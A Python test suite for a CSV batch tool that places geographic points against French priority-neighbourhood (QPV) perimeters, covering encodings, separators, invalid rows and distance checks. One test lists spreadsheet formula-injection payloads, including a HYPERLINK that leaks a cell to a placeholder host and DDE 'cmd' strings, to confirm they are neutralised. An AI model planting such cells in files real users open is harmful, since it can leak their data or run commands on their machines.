"""Locating a CSV file of points (quartiers.batch) against the real perimeters of geodata/.

The expected answers are computed independently of quartiers.zones: the perimeters are read with geopandas,
projected with a pyproj Transformer (EPSG:4326 -> EPSG:2154) and measured with shapely.
"""

from __future__ import annotations

import codecs
import io
from functools import cache

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from pyproj import Transformer

from quartiers import batch, settings
from quartiers.batch import OUTPUT_COLUMNS, BatchError, locate_frame, read_csv, to_csv_bytes
from quartiers.couches_officielles import load_layers
from quartiers.zones import Locator

MONT_LIEBAUT = "QN06208M"  # Béthune, contrat CABBALR
NOUMEA = "QN06246M"  # Rouvroy, CAHC: a neighbouring QPV, in qpv2024_voisins.geojson
ARRAS = (50.2910, 2.7775)  # (lat, lon), outside CABBALR and CALL

TO_L93 = Transformer.from_crs("EPSG:4326", "EPSG:2154", always_xy=True)
TO_WGS84 = Transformer.from_crs("EPSG:2154", "EPSG:4326", always_xy=True)


# --- independent geometry -------------------------------------------------------------------------------------


def _project(geometry, transformer: Transformer):
    return shapely.transform(geometry, lambda xy: np.column_stack(transformer.transform(xy[:, 0], xy[:, 1])))


def _read_l93(path) -> tuple[gpd.GeoDataFrame, list]:
    """A GeoJSON file of geodata/ (EPSG:4326) and its geometries projected to Lambert-93 with pyproj."""
    frame = gpd.read_file(path)
    assert frame.crs is not None and frame.crs.to_epsg() == 4326
    return frame, [_project(geometry, TO_L93) for geometry in frame.geometry]


@cache
def _qpv_l93() -> dict[str, object]:
    """Every QPV (contracts and neighbours), Lambert-93, by code_qp."""
    geometries = {}
    for path in (settings.QPV_FILE, settings.QPV_VOISINS_FILE):
        frame, projected = _read_l93(path)
        geometries.update(zip(frame["code_qp"], projected, strict=True))
    return geometries


@cache
def _commune_l93(nom: str):
    frame, projected = _read_l93(settings.COMMUNES_FILE)
    matches = [g for n, g in zip(frame["nom"], projected, strict=True) if n == nom]
    assert len(matches) == 1, nom
    return matches[0]


@cache
def _territory_l93():
    _, projected = _read_l93(settings.EPCI_FILE)
    return shapely.union_all(projected)


def _to_wgs84(point) -> tuple[float, float]:
    """(lat, lon) of a Lambert-93 point."""
    lon, lat = TO_WGS84.transform(point.x, point.y)
    return lat, lon


def _distance_to_limit(lat: float, lon: float, code: str) -> float:
    """Independent distance (m) in Lambert-93 from a WGS84 point to the limit of the QPV `code`."""
    x, y = TO_L93.transform(lon, lat)
    return shapely.Point(x, y).distance(_qpv_l93()[code].boundary)


def _points_on_ring(code: str, metres: float, count: int) -> list[shapely.Point]:
    """Points on the outer limit of the QPV's buffer of `metres`, in Lambert-93."""
    ring = _qpv_l93()[code].buffer(metres, quad_segs=64).exterior
    return [ring.interpolate(f, normalized=True) for f in np.linspace(0, 1, count, endpoint=False)]


def _far_from_other_qpv(point, code: str, metres: float) -> bool:
    return all(point.distance(g) > metres for c, g in _qpv_l93().items() if c != code)


@cache
def _inside_mont_liebaut() -> tuple[float, float]:
    point = _qpv_l93()[MONT_LIEBAUT].representative_point()
    assert point.distance(_qpv_l93()[MONT_LIEBAUT].boundary) > 2 * settings.LIMIT_TOLERANCE_METRES
    return _to_wgs84(point)


@cache
def _outside_mont_liebaut(count: int = 2500) -> list[tuple[float, float]]:
    """Points 150 m outside Mont Liébaut, in the territory, farther than 200 m from every other QPV."""
    points = [
        p
        for p in _points_on_ring(MONT_LIEBAUT, 150.0, count)
        if _territory_l93().contains(p) and _far_from_other_qpv(p, MONT_LIEBAUT, 200.0)
    ]
    assert len(points) > count // 2
    return [_to_wgs84(p) for p in points]


@cache
def _billy_montigny_near_noumea() -> tuple[float, float]:
    """A point of Billy-Montigny about 250 m from Nouméa, farther than 300 m from every other QPV."""
    billy = _commune_l93("Billy-Montigny")
    for p in _points_on_ring(NOUMEA, 250.0, 2000):
        if billy.contains(p) and _territory_l93().contains(p) and _far_from_other_qpv(p, NOUMEA, 300.0):
            return _to_wgs84(p)
    raise AssertionError("no point of Billy-Montigny at 250 m from Nouméa")


@cache
def _locator() -> Locator:
    layers = load_layers()
    assert layers.qpv is not None and layers.epci is not None, layers.problems
    return Locator(layers.qpv, layers.epci)


def _locate_bytes(content: bytes) -> tuple[pd.DataFrame, batch.CsvTable]:
    table = read_csv(content, "points.csv")
    return locate_frame(table.frame, _locator()), table


def _cell(value: float | str) -> str:
    return value if isinstance(value, str) else repr(value)


def _csv(rows: list[tuple], header: tuple, sep: str = ";") -> str:
    return "\n".join(sep.join(str(v) for v in row) for row in [header, *rows]) + "\n"


# --- a 10,000-row file ------------------------------------------------------------------------------------------


def test_10000_rows_round_trip_with_exact_counts(tmp_path):
    inside = _inside_mont_liebaut()
    outside = _outside_mont_liebaut()
    invalid = [("", ""), ("abc", "2.6"), ("95", "2.6"), ("50.5", "")]
    rows, expected = [], []
    for i in range(2500):  # interleaved, so that the order of the rows is checked too
        for kind, (lat, lon) in (
            ("dans", inside),
            ("bande", outside[i % len(outside)]),
            ("hors", ARRAS),
            ("invalide", invalid[i % len(invalid)]),
        ):
            rows.append((len(rows), _cell(lat), _cell(lon)))
            expected.append(kind)
    source = tmp_path / "points.csv"
    source.write_text(_csv(rows, ("id", "latitude", "longitude"), sep=","), encoding="utf-8")

    result, table = _locate_bytes(source.read_bytes())
    output = tmp_path / "resultat.csv"
    output.write_bytes(to_csv_bytes(result, table.separator))
    back = pd.read_csv(output, sep=",", dtype=str, keep_default_na=False, encoding="utf-8-sig")

    assert len(back) == 10_000
    assert back["statut"].value_counts().to_dict() == {
        "dans": 2500,
        "bande": 2500,
        "hors": 2500,
        "invalide": 2500,
    }
    assert back["id"].tolist() == [str(i) for i in range(10_000)]
    assert back["statut"].tolist() == expected
    dans = back[back["statut"] == "dans"]
    assert set(dans["code_qp"]) == {MONT_LIEBAUT} and set(dans["dans_qpv"]) == {"oui"}
    bande = back[back["statut"] == "bande"]
    assert set(bande["code_qp"]) == {MONT_LIEBAUT}
    assert set(bande["dans_qpv"]) == {"non"} and set(bande["dans_bande_300m"]) == {"oui"}
    assert set(bande["distance_limite_m"].astype(int)) <= {149, 150, 151}
    invalides = back[back["statut"] == "invalide"]
    assert set(invalides[["code_qp", "nom_qp", "dans_qpv", "dans_bande_300m", "distance_limite_m"]].stack()) == {""}
    assert (invalides["motif"] != "").all()
    arras = back[back["statut"] == "hors"]
    assert set(arras[["code_qp", "nom_qp"]].stack()) == {""}  # the nearest QPV is not the row's quartier
    for remark, metres in zip(arras["remarque"], arras["distance_limite_m"].astype(int), strict=True):
        km = f"{metres / 1000:.1f}".replace(".", ",")
        assert remark.startswith("QPV le plus proche : ") and remark.endswith(
            f"), à {km} km ; hors des agglomérations CABBALR et CALL"
        ), remark
    assert set(arras["dans_qpv"]) == {"non"} and set(arras["dans_bande_300m"]) == {"non"}
    assert (arras["distance_limite_m"].astype(int) > 10_000).all()  # the nearest QPV known here is far away
    assert set(back.loc[back["statut"] != "hors", "remarque"]) == {""}


# --- reading French spreadsheets' CSV ---------------------------------------------------------------------------


def test_semicolon_separator_with_decimal_comma():
    result, table = _locate_bytes(b"latitude;longitude\n50,518;2,629\n")
    assert table.separator == ";"
    assert result.loc[0, "statut"] == "dans" and result.loc[0, "code_qp"] == MONT_LIEBAUT
    assert result.loc[0, "latitude"] == "50,518"  # the input value is kept as written


def test_one_swapped_row_among_good_ones_is_flagged_on_its_own_row():
    result, _ = _locate_bytes(b"nom;latitude;longitude\nbon;50.518;2.629\ninverse;2.629;50.518\nparis;48.85;2.35\n")
    remarks = list(result["remarque"])
    assert batch.SWAPPED_ROW in remarks[1]
    assert batch.SWAPPED_ROW not in remarks[0] and batch.SWAPPED_ROW not in remarks[2]  # Paris is in France
    assert result.loc[1, "statut"] == "hors"  # the answer is the point as given; only the remark suggests


def test_comma_separator_with_decimal_point():
    result, table = _locate_bytes(b"latitude,longitude\n50.518,2.629\n")
    assert table.separator == ","
    assert result.loc[0, "statut"] == "dans" and result.loc[0, "code_qp"] == MONT_LIEBAUT


def test_utf8_with_bom():
    result, table = _locate_bytes("latitude;longitude;nom\n50.518;2.629;Élise\n".encode("utf-8-sig"))
    assert table.encoding == "UTF-8"
    assert list(result.columns[:3]) == ["latitude", "longitude", "nom"]  # no BOM glued to the first name
    assert result.loc[0, "nom"] == "Élise"
    assert result.loc[0, "statut"] == "dans"


def test_latin1_file_keeps_accents_in_other_columns(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("adresse;latitude;longitude\nRue de l'Église, Béthune;50,518;2,629\n".encode("cp1252"))
    result, table = _locate_bytes(path.read_bytes())
    assert "1252" in table.encoding
    assert result.loc[0, "adresse"] == "Rue de l'Église, Béthune"
    assert result.loc[0, "statut"] == "dans"
    assert "Rue de l'Église, Béthune" in to_csv_bytes(result, table.separator).decode("utf-8-sig")


def test_column_names_are_case_insensitive():
    result, _ = _locate_bytes(b"Latitude;LONGITUDE\n50.518;2.629\n")
    assert result.loc[0, "statut"] == "dans"


def test_extra_columns_kept_and_output_columns_appended():
    result, table = _locate_bytes(b"ref;Latitude;Longitude;commentaire\nA1;50.518;2.629;x\nA2;50.2910;2.7775;y\n")
    assert list(result.columns) == ["ref", "Latitude", "Longitude", "commentaire", *OUTPUT_COLUMNS]
    assert OUTPUT_COLUMNS == (
        "code_qp",
        "nom_qp",
        "dans_qpv",
        "dans_bande_300m",
        "distance_limite_m",
        "statut",
        "remarque",
        "motif",
        "remarque_npnru",  # issue 18: one column at the end, the others unchanged
    )
    assert result["ref"].tolist() == ["A1", "A2"] and result["commentaire"].tolist() == ["x", "y"]
    assert result["statut"].tolist() == ["dans", "hors"]
    assert result["remarque"][0] == "" and result["code_qp"].tolist() == ["QN06208M", ""]
    assert result["remarque"][1].startswith("QPV le plus proche : ")
    assert result["remarque"][1].endswith(" ; hors des agglomérations CABBALR et CALL")
    back = pd.read_csv(io.BytesIO(to_csv_bytes(result, table.separator)), sep=";", dtype=str, encoding="utf-8-sig")
    assert list(back.columns) == list(result.columns)


# --- bad input -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "vide"),
        (b"  \n\n", "vide"),
        (b"latitude;longitude\n", "aucune ligne"),
        (b"\x00\x01\x02\x03PK\x03\x04" * 20, "binaire"),
    ],
    ids=["empty", "blank", "header-only", "binary"],
)
def test_unusable_files_raise_a_french_batch_error(content, words):
    with pytest.raises(BatchError, match=words) as info:
        read_csv(content, "points.csv")
    assert "Le fichier points.csv" in str(info.value)


def test_missing_coordinate_columns_lists_the_columns_read():
    table = read_csv(b"adresse;ville;code\n1 rue Haute;Lens;62300\n")
    with pytest.raises(BatchError, match="Colonnes de coordonnées introuvables") as info:
        locate_frame(table.frame, _locator())
    assert "Colonnes lues : adresse | ville | code" in str(info.value)


def test_file_larger_than_max_bytes(monkeypatch):
    monkeypatch.setattr(batch, "MAX_BYTES", 100)
    content = _csv([(50.518, 2.629)] * 20, ("latitude", "longitude")).encode()
    assert len(content) > 100
    with pytest.raises(BatchError, match="dépasse la taille maximale de 20 Mo"):
        read_csv(content, "points.csv")


def test_file_with_more_than_max_rows(monkeypatch):
    monkeypatch.setattr(batch, "MAX_ROWS", 5)
    content = _csv([(50.518, 2.629)] * 6, ("latitude", "longitude")).encode()
    with pytest.raises(BatchError, match="dépasse 5 lignes"):
        read_csv(content, "points.csv")
    assert len(read_csv(_csv([(50.518, 2.629)] * 5, ("latitude", "longitude")).encode()).frame) == 5


def test_bad_rows_are_invalid_and_the_others_processed():
    rows = [
        ("ok1", "50.518", "2.629"),
        ("vide", "", ""),
        ("lat vide", "", "2.629"),
        ("texte", "abc", "2.629"),
        ("lon texte", "50.518", "deux"),
        ("lat 95", "95", "2.629"),
        ("lon 200", "50.518", "200"),
        ("ok2", "50.2910", "2.7775"),
    ]
    result, _ = _locate_bytes(_csv(rows, ("cas", "latitude", "longitude")).encode())
    assert result["statut"].tolist() == ["dans", *["invalide"] * 6, "hors"]
    assert result.loc[1:6, "code_qp"].tolist() == [""] * 6
    assert result.loc[1:6, "distance_limite_m"].tolist() == [""] * 6
    assert result.loc[1:6, "motif"].tolist() == [
        "latitude absente; longitude absente",
        "latitude absente",
        "latitude invalide (« abc », attendu un nombre entre -90 et 90)",
        "longitude invalide (« deux », attendu un nombre entre -180 et 180)",
        "latitude invalide (« 95 », attendu un nombre entre -90 et 90)",
        "longitude invalide (« 200 », attendu un nombre entre -180 et 180)",
    ]


# --- distances against an independent computation ----------------------------------------------------------------


def test_distance_150_m_outside_mont_liebaut_matches_independent_lambert93():
    lat, lon = _outside_mont_liebaut()[0]
    expected = _distance_to_limit(lat, lon, MONT_LIEBAUT)
    assert expected == pytest.approx(150.0, abs=0.5)
    result, _ = _locate_bytes(_csv([(repr(lat), repr(lon))], ("latitude", "longitude")).encode())
    assert result.loc[0, "statut"] == "bande"
    assert result.loc[0, "code_qp"] == MONT_LIEBAUT
    assert abs(int(result.loc[0, "distance_limite_m"]) - expected) <= 1.0
    location = _locator().locate(lat, lon)
    assert location.dans_bande_300m and not location.dans_qpv
    assert abs(location.distance_limite_m - expected) <= 1.0


def test_distance_inside_mont_liebaut_is_the_distance_to_its_limit():
    lat, lon = _inside_mont_liebaut()
    expected = _distance_to_limit(lat, lon, MONT_LIEBAUT)
    result, _ = _locate_bytes(_csv([(repr(lat), repr(lon))], ("latitude", "longitude")).encode())
    assert result.loc[0, "statut"] == "dans" and result.loc[0, "dans_qpv"] == "oui"
    assert abs(int(result.loc[0, "distance_limite_m"]) - expected) <= 1.0


def test_billy_montigny_point_is_in_the_band_of_the_cahc_qpv_noumea():
    lat, lon = _billy_montigny_near_noumea()
    expected = _distance_to_limit(lat, lon, NOUMEA)
    assert expected == pytest.approx(250.0, abs=1.0)
    location = _locator().locate(lat, lon)
    assert location.statut == "bande"
    assert location.code_qp == NOUMEA
    assert location.voisin is True
    assert location.dans_bande_300m and not location.dans_qpv
    assert abs(location.distance_limite_m - expected) <= 1.0
    result, _ = _locate_bytes(_csv([(repr(lat), repr(lon))], ("latitude", "longitude")).encode())
    assert result.loc[0, "statut"] == "bande" and result.loc[0, "code_qp"] == NOUMEA
    assert result.loc[0, "dans_bande_300m"] == "oui"


# --- files as people export them -------------------------------------------------------------------------------

HORS = "hors des agglomérations CABBALR et CALL"


def _result(content: bytes) -> tuple[batch.BatchResult, batch.CsvTable]:
    table = read_csv(content, "points.csv")
    return batch.locate_table(table, _locator()), table


def test_trailing_separators_do_not_shift_columns():
    """LibreOffice/Excel exports often end every row with `;`: latitudes must stay latitudes."""
    result, table = _result(b"nom;latitude;longitude;\nA;50,518;2,629;\nB;50,2910;2,7775;\n")
    assert list(table.frame.columns) == ["nom", "latitude", "longitude"]
    assert result.frame["nom"].tolist() == ["A", "B"]
    assert result.frame["statut"].tolist() == ["dans", "hors"]
    assert result.counts == {"dans": 1, "bande": 0, "limite": 0, "hors": 1, "invalide": 0}
    assert result.level == "success"


def test_rows_with_trailing_separators_under_a_clean_header():
    result, _ = _result(b"nom;latitude;longitude\nA;50,518;2,629;\nB;50,2910;2,7775;;\n")
    assert result.frame["statut"].tolist() == ["dans", "hors"]


def test_a_ragged_first_row_is_invalid_and_the_others_go_on():
    result, _ = _result(b"nom,latitude,longitude\nA,50.518,2.629,en trop\nB,50.518,2.629\nC,50.2910,2.7775\n")
    assert result.frame["statut"].tolist() == ["invalide", "dans", "hors"]
    assert result.frame.loc[0, "motif"] == "ligne 2 : 4 champs pour 3 colonnes — colonnes décalées, ligne non lue"
    assert result.frame["nom"].tolist() == ["A", "B", "C"]  # nothing silently lost
    assert result.level == "warning" and "3 lignes traitées" in result.summary()
    assert "1 ligne invalide :" in result.summary()


def test_short_rows_are_padded_not_shifted():
    result, _ = _result(b"latitude;longitude;commentaire\n50,518;2,629\n50,2910;2,7775;x\n")
    assert result.frame["statut"].tolist() == ["dans", "hors"]
    assert result.frame["commentaire"].tolist() == ["", "x"]


def test_excel_sep_line_names_the_separator():
    result, table = _result(b"sep=;\r\nnom;latitude;longitude\r\nA;50,518;2,629\r\n")
    assert table.separator == ";" and list(table.frame.columns) == ["nom", "latitude", "longitude"]
    assert result.frame["statut"].tolist() == ["dans"]
    _, comma = _result(b'"sep=,"\nlatitude,longitude\n50.518,2.629\n')
    assert comma.separator == ","


def test_tab_separated_export():
    result, table = _result(b"nom\tlatitude\tlongitude\nA, B\t50,518\t2,629\n")
    assert table.separator == "\t" and table.separator_name == "tabulation"
    assert result.frame["nom"].tolist() == ["A, B"] and result.frame["statut"].tolist() == ["dans"]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le"])
def test_utf16_unicode_text_export(codec):
    """Excel's "Texte Unicode (*.txt)": UTF-16 (with BOM, or little-endian without), tab-separated."""
    content = "nom\tlatitude\tlongitude\r\nÉcole Pasteur\t50,518\t2,629\r\n".encode(codec)
    result, table = _result(content)
    assert table.encoding == "UTF-16" and table.separator == "\t"
    assert result.frame["nom"].tolist() == ["École Pasteur"] and result.frame["statut"].tolist() == ["dans"]


def test_cp1252_with_euro_and_utf8_with_bom():
    result, table = _result("nom;prix;latitude;longitude\nÉté;5 €;50,518;2,629\n".encode("cp1252"))
    assert table.encoding == "Windows-1252" and result.frame["prix"].tolist() == ["5 €"]
    result, table = _result("\ufeffnom;latitude;longitude\nÉté;50,518;2,629\n".encode("utf-8"))
    assert table.encoding == "UTF-8" and list(table.frame.columns)[0] == "nom"


@pytest.mark.parametrize("header", ["latitude;latitude;longitude", "lat;LAT;lon", "latitude;longitude;Longitude"])
def test_duplicated_coordinate_headers_get_a_clear_message(header):
    table = read_csv(f"{header}\n50,5;50,5;2,6\n".encode())
    with pytest.raises(BatchError, match="apparaît 2 fois dans l'en-tête"):
        batch.locate_table(table, _locator())


def test_other_duplicated_headers_are_kept_as_they_are():
    result, _ = _result(b"note;note;latitude;longitude\na;b;50,518;2,629\n")
    assert list(result.frame.columns[:4]) == ["note", "note", "latitude", "longitude"]
    assert result.frame.iloc[0, :2].tolist() == ["a", "b"] and result.frame["statut"].tolist() == ["dans"]


def test_lambert93_columns_x_y():
    """x / y in metres (EPSG:2154), e.g. from a GIS: the answer equals the degrees' answer."""
    lat, lon = _inside_mont_liebaut()
    x, y = TO_L93.transform(lon, lat)
    bande_lat, bande_lon = _outside_mont_liebaut()[0]
    bx, by = TO_L93.transform(bande_lon, bande_lat)
    content = f"id;X;Y\n1;{x:.2f};{y:.2f}\n2;{bx:.2f};{by:.2f}\n3;2,629;50,518\n".encode()
    result, _ = _result(content)
    assert result.frame["statut"].tolist() == ["dans", "bande", "invalide"]
    assert result.frame.loc[1, "code_qp"] == MONT_LIEBAUT
    assert (
        abs(int(result.frame.loc[1, "distance_limite_m"]) - _distance_to_limit(bande_lat, bande_lon, MONT_LIEBAUT)) <= 1
    )
    assert "Lambert-93" in result.frame.loc[2, "motif"]
    result, _ = _result(f"x_l93,y_l93\n{x:.1f},{y:.1f}\n".encode())
    assert result.frame["statut"].tolist() == ["dans"]


def test_swapped_columns_get_a_hint():
    result, _ = _result(b"latitude;longitude\n2,629;50,518\n2,78;50,29\n")
    assert set(result.frame["statut"]) == {"hors"}
    assert result.hints and "inversées" in result.hints[0] and "En les échangeant" in result.hints[0]
    assert result.level == "warning" and "inversées" in result.summary()
    good, _ = _result(b"latitude;longitude\n50,518;2,629\n2,629;50,518\n")
    assert good.hints == ()  # one point in France: no hint


def test_extreme_values_in_a_file_never_abort_it():
    rows = [
        ("-90", "0"),
        ("90", "180"),
        ("-90", "-180"),
        ("NaN", "2.6"),
        ("inf", "2.6"),
        ("50.5", "-inf"),
        ("1e400", "2.6"),
        ("9" * 400, "2.6"),
        ("50.518", "2.629"),
    ]
    result, _ = _result(_csv(rows, ("latitude", "longitude")).encode())
    assert result.frame["statut"].tolist() == ["hors", "hors", "hors", *["invalide"] * 5, "dans"]
    assert all(result.frame.loc[:2, "remarque"].str.endswith(HORS))
    assert set(result.frame.loc[:7, "code_qp"]) == {""} and set(result.frame.loc[:7, "nom_qp"]) == {""}
    assert all(result.frame.loc[3:7, "motif"].str.contains("invalide"))


def test_nothing_located_is_an_error_never_a_success():
    result, _ = _result(b"latitude;longitude\nabc;def\n;\n95;2\n")
    assert result.counts["invalide"] == 2 and result.located == 0  # the blank line is not a row
    assert result.level == "error" and "Aucun point n'a pu être situé" in result.summary()


def test_summary_counts_each_status():
    lat, lon = _outside_mont_liebaut()[0]
    result, _ = _result(_csv([(50.518, 2.629), (lat, lon), (50.2910, 2.7775), ("x", 2)], ("lat", "lon")).encode())
    text = result.summary()
    assert text.startswith("4 lignes traitées — dans : 1, bande : 1, limite : 0, hors : 1, invalide : 1.")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x.example/?leak="&A1;"clic")', "'=HYPERLINK"),
        ("=cmd|' /C calc'!A0", "'=cmd|"),
        ("+33 3 21 00 00 00", "'+33 3 21"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd"),
        ("@SUM(1+1)", "'@SUM"),
        ("\tlettre", "'\tlettre"),
        ("\r=1+1", "'\r=1+1"),
        ("-2,5", "-2,5"),  # a plain number stays a number
        (" -2,5", " -2,5"),  # spaces around it too
        ("\n=1+1", "'\n=1+1"),  # a line feed first
        ("  =1+1", "'  =1+1"),  # spaces first
        ("\u00a0@SUM(1+1)", "'\u00a0@SUM"),  # a no-break space first
        ('\uff1dHYPERLINK("http://x.example")', "'\uff1dHYPERLINK"),  # full-width equals sign
        ("\uff0b33 3 21", "'\uff0b33"),  # full-width plus
        ("\uff20SUM(1)", "'\uff20SUM"),  # full-width at sign
        ("Rue du 8-Mai", "Rue du 8-Mai"),
    ],
)
def test_formula_cells_are_neutralised_in_the_written_csv(cell, written):
    frame = pd.DataFrame({"nom": [cell], "latitude": ["50.518"], "longitude": ["2.629"]})
    result = locate_frame(frame, _locator())
    back = pd.read_csv(
        io.BytesIO(to_csv_bytes(result, ";")), sep=";", dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    assert back.loc[0, "nom"].startswith(written)
    assert back.loc[0, "statut"] == "dans"


def test_formula_in_a_header_is_neutralised():
    result, table = _result(b"=1+1;latitude;longitude\nx;50,518;2,629\n")
    assert to_csv_bytes(result.frame, table.separator).decode("utf-8-sig").startswith("'=1+1;latitude")


def test_streamlit_upload_limit_matches_the_batch_limit():
    import tomllib

    config = tomllib.loads((settings.ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == batch.MAX_MEGABYTES
    assert batch.MAX_BYTES == batch.MAX_MEGABYTES * 1024 * 1024


def test_process_upload_gives_what_the_page_shows():
    processed = batch.process_upload(b"latitude;longitude\n50,518;2,629\n", "mes points.csv", _locator())
    assert processed.error is None and processed.name == "mes points_qpv.csv" and processed.level == "success"
    assert processed.csv.startswith(codecs.BOM_UTF8) and b";dans;" in processed.csv
    refused = batch.process_upload(b"adresse\nx\n", "a.csv", _locator())
    assert refused.level == "error" and "Colonnes de coordonnées introuvables" in refused.error


def test_worker_process_gives_the_same_result():
    """The page sends large files to the guarded child process: same answer as in the app's process."""
    from quartiers import garde

    layers = load_layers()
    content = _csv([(50.518, 2.629), (50.2910, 2.7775), ("x", "y")] * 1000, ("lat", "lon")).encode()
    remote = garde.run(batch.process_upload_job, content, "p.csv", layers.qpv, layers.epci, seconds=60)
    local = batch.process_upload(content, "p.csv", _locator())
    assert remote.csv == local.csv and remote.summary == local.summary
    assert "dans : 1\u202f000" in remote.summary


def test_one_file_row_says_one_line_in_the_singular():
    result, _ = _result(b"latitude;longitude\n50,518;2,629\n")
    assert result.summary().startswith("1 ligne traitée — dans : 1,")
    result, _ = _result(b"latitude;longitude\nabc;2,629\n50,518;2,629\n")
    assert "2 lignes traitées" in result.summary() and " 1 ligne invalide : " in result.summary()


@pytest.mark.parametrize(
    ("lat", "lon", "expected"),
    [
        (2.629, 50.518, (50.518, 2.629)),  # Mont Liébaut typed the wrong way round
        (50.518, 2.629, None),  # right way round
        (-90.0, 0.0, None),  # outside France either way: nothing to suggest
        (3.0, 3.0, None),
    ],
)
def test_swapped_single_point_uses_the_file_rule(lat, lon, expected):
    assert batch.swapped_point(lat, lon) == expected
    if expected is not None:  # the same rule as the whole-file hint
        hints = batch._hints(np.array([lat]), np.array([lon]))
        assert hints and "En les échangeant, tous les points tomberaient en France." in hints[0]


# --- hostile or odd files: nothing altered or lost without a word, no traceback, bounded work (issue 15) ------------


def _hints(content: bytes) -> tuple[batch.BatchResult, str]:
    result, _ = _result(content)
    return result, " ".join(result.hints)


@pytest.mark.parametrize(
    ("content", "columns", "note"),
    [
        (
            b";;latitude;longitude\na;b;50,518;2,629\n",
            ["colonne 1", "colonne 2", "latitude", "longitude"],
            "2 colonnes sans nom dans l'en-tête, nommées « colonne 1 », « colonne 2 » dans le résultat.",
        ),
        (
            b"latitude;longitude;;\n50,518;2,629;a;b\n50,518;2,629\n",
            ["latitude", "longitude", "colonne 3", "colonne 4"],
            "2 colonnes sans nom dans l'en-tête, nommées « colonne 3 », « colonne 4 » dans le résultat.",
        ),
        (
            b"colonne 2;;latitude;longitude\na;b;50,518;2,629\n",
            ["colonne 2", "colonne 2_2", "latitude", "longitude"],
            "1 colonne sans nom dans l'en-tête, nommée « colonne 2_2 » dans le résultat.",
        ),
    ],
    ids=["leading", "trailing-with-data", "name-taken"],
)
def test_columns_without_a_name_are_named_by_position_and_said(content, columns, note):
    result, hints = _hints(content)
    assert list(result.frame.columns[: len(columns)]) == columns
    assert result.frame.iloc[0, :4].tolist() != [""] * 4 and "a" in result.frame.iloc[0].tolist()
    assert note in hints and result.level == "warning" and result.counts["dans"] >= 1


def test_trailing_separators_without_data_add_no_column():
    result, hints = _hints(b"latitude;longitude;;;\n50,518;2,629;;;\n")
    assert list(result.frame.columns[:2]) == ["latitude", "longitude"] and "colonne 3" not in result.frame
    assert hints == "" and result.level == "success"


def test_columns_of_the_same_name_are_kept_in_the_file_and_numbered_in_the_preview_only():
    import pyarrow as pa

    for content in (b"note;note;latitude;longitude\na;b;50,518;2,629\n", b";;latitude;longitude\na;b;50,518;2,629\n"):
        processed = batch.process_upload(content, "p.csv", _locator())
        assert processed.error is None
        pa.Table.from_pandas(processed.preview)  # what st.dataframe does: "Duplicate column names found" before
    processed = batch.process_upload(
        b"note;note;note (2);latitude;longitude\na;b;c;50,518;2,629\n", "p.csv", _locator()
    )
    assert list(processed.preview.columns[:5]) == ["note", "note (3)", "note (2)", "latitude", "longitude"]
    assert processed.preview.iloc[0, :3].tolist() == ["a", "b", "c"]
    assert processed.preview_note == (
        "Colonnes de même nom (« note ») : numérotées « (2) », « (3) »… dans cet aperçu seulement, gardées telles "
        "quelles dans le fichier résultat."
    )
    assert processed.csv.decode("utf-8-sig").startswith("note;note;note (2);latitude;longitude;code_qp;")


def test_mixed_utf8_and_windows_1252_lines_are_each_decoded_and_named():
    content = (
        "ville;latitude;longitude\nBéthune;50,518;2,629\n".encode()
        + "Béthune;50,518;2,629\n".encode("cp1252")
        + "Liévin;50,518;2,629\r\n".encode()
        + "Béthune;50,518;2,629\n".encode("cp1252")
    )
    result, table = _result(content)
    assert result.frame["ville"].tolist() == ["Béthune", "Béthune", "Liévin", "Béthune"]
    assert table.encoding == "UTF-8 et Windows-1252"
    assert result.hints[0] == (
        "Encodage mélangé : le fichier est en UTF-8 sauf les lignes 3 et 5, lues en Windows-1252 : vérifiez leurs "
        "accents dans le résultat."
    )
    assert result.level == "warning" and "Encodage mélangé" in result.summary()


def test_mixed_encodings_over_the_line_bound_are_refused(monkeypatch):
    monkeypatch.setattr(batch, "MAX_ROWS", 3)
    content = b"latitude;longitude;n\n" + ("1;2;é\n".encode() + "1;2;é\n".encode("cp1252")) * 5
    with pytest.raises(BatchError, match="mélange deux encodages .* enregistrez-le en UTF-8"):
        read_csv(content, "points.csv")


def test_input_columns_named_like_the_added_ones_are_kept_and_the_added_ones_take_a_suffix():
    content = b"statut;motif;Code_QP;remarque;latitude;longitude;statut_2\nx;y;z;w;50,518;2,629;v\n"
    result, table = _result(content)
    assert list(result.frame.columns) == [
        *["statut", "motif", "Code_QP", "remarque", "latitude", "longitude", "statut_2"],
        *["code_qp_2", "nom_qp", "dans_qpv", "dans_bande_300m", "distance_limite_m", "statut_3", "remarque_2"],
        *["motif_2", "remarque_npnru"],
    ]
    assert result.frame.iloc[0, :7].tolist() == ["x", "y", "z", "w", "50,518", "2,629", "v"]
    assert result.frame.loc[0, "statut_3"] == "dans" and result.frame.loc[0, "code_qp_2"] == MONT_LIEBAUT
    assert result.counts["dans"] == 1 and result.level == "warning"
    assert result.hints == (
        "Le fichier a déjà des colonnes nommées comme celles ajoutées : elles sont gardées, et les colonnes ajoutées "
        "s'appellent « code_qp_2 », « statut_3 », « remarque_2 », « motif_2 ».",
    )
    back = to_csv_bytes(result.frame, table.separator).decode("utf-8-sig").splitlines()
    assert back[1].startswith("x;y;z;w;50,518;2,629;v;QN06208M;")
    assert batch.added_names(["a"]) == {name: name for name in OUTPUT_COLUMNS}


def test_a_quote_that_swallows_the_following_rows_is_reported_with_its_line():
    """4 rows in: row B opens a quote never closed, C and D end up in its cell (« 2 lignes traitées » before)."""
    content = b'nom;latitude;longitude\nA;50,518;2,629\nB;"50,518;2,629\nC;50,518;2,629\nD;50,518;2,629\n'
    result, hints = _hints(content)
    assert result.frame["nom"].tolist() == ["A", "B"] and result.frame["statut"].tolist() == ["dans", "invalide"]
    assert "C;50,518;2,629" in result.frame.loc[1, "latitude"]  # kept in the cell, not lost
    assert result.frame.loc[1, "motif"] == (
        "ligne 3 : guillemet ouvert et non refermé avant la ligne 5 — les lignes 3 à 5 sont lues comme une seule, "
        "ligne non lue"
    )
    assert hints == (
